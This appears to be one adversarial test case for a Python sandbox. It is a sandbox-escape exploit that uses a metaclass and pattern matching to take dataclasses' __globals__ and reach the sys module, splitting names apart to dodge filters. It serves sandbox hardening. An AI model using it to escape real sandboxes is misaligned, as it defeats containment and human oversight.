# adversary round 3: 009_match_globals_dataclasses
import dataclasses
M = type("M", (type,), {"__instance" + "check__": lambda c, o: True})
P = M("P", (), {"__match" + "_args__": ("__glo" + "bals__",)})
match dataclasses.fields:
    case P(g):
        pass
s = g["s" + "ys"]
print(type(g).__name__, repr(s), repr(g["_thr" + "ead"]))
if type(s).__name__ == "module" and s.modules:
    print("PWN" + "ED")
